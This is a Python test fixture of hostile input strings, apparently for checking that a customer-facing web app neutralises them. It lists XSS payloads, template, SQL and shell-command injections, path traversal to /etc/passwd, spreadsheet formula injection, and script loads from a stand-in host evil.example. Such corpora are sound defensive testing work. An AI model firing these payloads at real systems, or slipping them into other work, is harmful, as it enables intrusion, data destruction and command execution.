"""Strings that customers should not be able to do anything with, in families by what they try."""

from __future__ import annotations

from itertools import chain

RUN = "window.ran=1"
"""What a payload that gets through does; every page of the tests notices (`conftest.GUARD`)."""

MARKUP = [
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script src=//evil.example/x.js>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script/x>{RUN}</script\n>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>x</text></a></svg>",
    f"<math><mtext></p><style><img src=x onerror={RUN}></style>",
    f"<math href='javascript:{RUN}'>x</math>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}'>",
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f"<img src='https://evil.example/pixel.png'>",  # noqa: F541 - stands among its kind
    f"<img srcset='x 1x' onerror={RUN}>",
    f"<image src=x onerror={RUN}>",
    f"<body onload={RUN}>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data='javascript:{RUN}'></object>",
    f"<embed src='javascript:{RUN}'>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}></textarea>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<a href='javascript:{RUN}' autofocus>x</a>",
    f"<form action='javascript:{RUN}'><input type=submit></form>",
    f"<button formaction='javascript:{RUN}'>x</button>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>*{display:none}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style='position:fixed;inset:0;background:red'>x</div>",
    f"<div style=\"background:url('javascript:{RUN}')\">x</div>",
    "<plaintext>", "<xmp>", "<noscript><p>", "<!--", "<!-- --!>", "-->", "]]>", "<![CDATA[",
    "</div></main></body></html>", "</title><h1>x</h1>", "</textarea><b>x", "</select><b>x",
    "<template><b>x</template>", f"<x onclick={RUN}>x</x>", f"<x contenteditable onblur={RUN}>x",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<table background='javascript:{RUN}'>", "<dialog open>x</dialog>", f"<b onmouseover={RUN}>x",
    f"<keygen autofocus onfocus={RUN}>", f"<isindex type=image src=x onerror={RUN}>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#60;img src=x onerror={RUN}&#62;",
    f"%3Cscript%3E{RUN}%3C/script%3E", f"\\x3cscript\\x3e{RUN}", f"\\u003cscript\\u003e{RUN}",
    f"+ADw-script+AD4-{RUN}", f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
]  # fmt: skip
ATTRIBUTES = [
    f'" onmouseover="{RUN}', f"' onfocus='{RUN}' autofocus='", f'" autofocus onfocus={RUN} x="',
    f"` onload=`{RUN}", f'"/onload={RUN}//', f'" style="animation:x" onanimationstart="{RUN}',
    '"><plaintext>', '" hidden="', '" inert x="', '" class="desk', '" id="composer', "' id='page",
    '"></iframe>', '" sandbox="allow-scripts', '" srcdoc="<b>', '" href="//evil.example',
]  # fmt: skip
LINKS = [
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f" javascript:{RUN}", f"java\tscript:{RUN}",
    f"java\nscript:{RUN}", f"\x01javascript:{RUN}", f"javascript://x/%0a{RUN}",
    f"javascript&colon;{RUN}", f"javascript\uff1a{RUN}", f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>", "data:text/html;base64,PHNjcmlwdD4=",
    "blob:https://evil.example/x", "file:///etc/passwd", "//evil.example/x", "\\\\evil.example\\x",
    f'https://x.example/" onclick="{RUN}', "https://x.example/<script>", "https://x@evil.example/",
    "https://\u0430pple.example/", "https://x.example/\u202egpj.exe", "https://[::1]:0/", "http://",
    "https://%00/", "https://x.example/" + "a" * 150, "mailto:a@b.example?bcc=c@d.example&body=x",
    f"mailto:x@y.example?subject=<script>{RUN}</script>", "tel:*21*00#", "tel:+49171\u202e42",
    f"https://x.example/?next=javascript:{RUN}", f"https://x.example/#{RUN}",
]  # fmt: skip
TEMPLATES = [
    f"${{{RUN}}}", f"`${{{RUN}}}`", f"{{{{{RUN}}}}}", f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"#{{{RUN}}}", f"<%= {RUN} %>", f"[[{RUN}]]", f"*{{{RUN}}}", f"@({RUN})", "{name}", "{n}",
    "{0}", "%s%s%s%n", "%(x)s", "{channel} | {queue}", "| {n} |", "$1$&$`$'", "$$", "\\", "\\\\",
    "`", "```", "'", '"', "'''", "';" + RUN + "//", '";' + RUN + "//", f"');{RUN}//",
    f"\\';{RUN}//", f"*/{RUN}/*", f"\u2028{RUN}\u2029", f"\r\n{RUN}",
]  # fmt: skip
DATA = [
    '"}', "}]}", '{"type":"welcome"}', '{"__proto__":{"polluted":1}}', "__proto__", "constructor",
    "toString", "hasOwnProperty", "valueOf", "prototype", "null", "undefined", "true", "false",
    "NaN", "-1", "0", "1e309", "[object Object]", "[]", "{}", "=1+1", "=cmd|' /C calc'!A0",
    "@SUM(1)", "+1", "-1+1", "' OR 1=1 --", "'; DROP TABLE contacts; --", "../../etc/passwd",
    "..\\..\\x", "$(reboot)", "`reboot`", "; reboot", "| reboot", "a\r\nSet-Cookie: x=1",
    "a\r\n\r\n<b>", "crk_x", "#ticket=crk_x", "?key=x&name=y", "%00", "%0d%0a", "%2e%2e%2f",
]  # fmt: skip
LETTERS = [
    "\u202egnp.exe", "\u202e" * 20 + "abc", "\u2066\u2067\u2068abc", "\u2069\u202c" * 5 + "x",
    "\u202a\u202b\u202d" + "x" * 10, "\u200b\u200c\u200d\ufeff", "a\u200bb\u200bc", "\u2060" * 50,
    "\u00ad" * 50, "\u180e", "\u3164", "\u115f\u1160", "\u034f" * 30, "\ufe0f" * 20,
    "e" + "\u0301" * 199, "Z" + "\u0353\u0354\u0355\u0356\u0334\u0335\u0489" * 20 + "!",
    "\u0e49" * 60, "\u0488" * 40, "\x00", "a\x00b", "\x00<script>", "\x07\x08\x1b[31mred\x1b[0m",
    "\x7f\x80\x9f", "\ufffe\uffff", "\U0010ffff", "\ufffd" * 10, "\u0085\u000b\u000c", "\t" * 50,
    "\n" * 50, " " * 100, "\u3000" * 40, "W" * 200, "\ufdfd" * 30, "\U0001242b" * 30, "\u2588" * 99,
    "i" * 199 + "\u0130", "\u0643\u062a\u0627\u0628 abc \u05e9\u05dc\u05d5\u05dd 123",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 20, "\U0001f1e9" * 30,
    "\u4e16" * 150, "\u0915\u094d\u0937" * 40, "\uac00\u11a8" * 40, "\u17b4\u17b5", "\u2800" * 100,
    "supercalifragilistic" * 9, "a" * 60 + " " + "b" * 60, "\u00a0" * 100 + "x", "-" * 190,
]  # fmt: skip

CORPUS = tuple(dict.fromkeys(chain(MARKUP, ATTRIBUTES, LINKS, TEMPLATES, DATA, LETTERS)))
"""All of them, each once; as long as a name may be at most."""
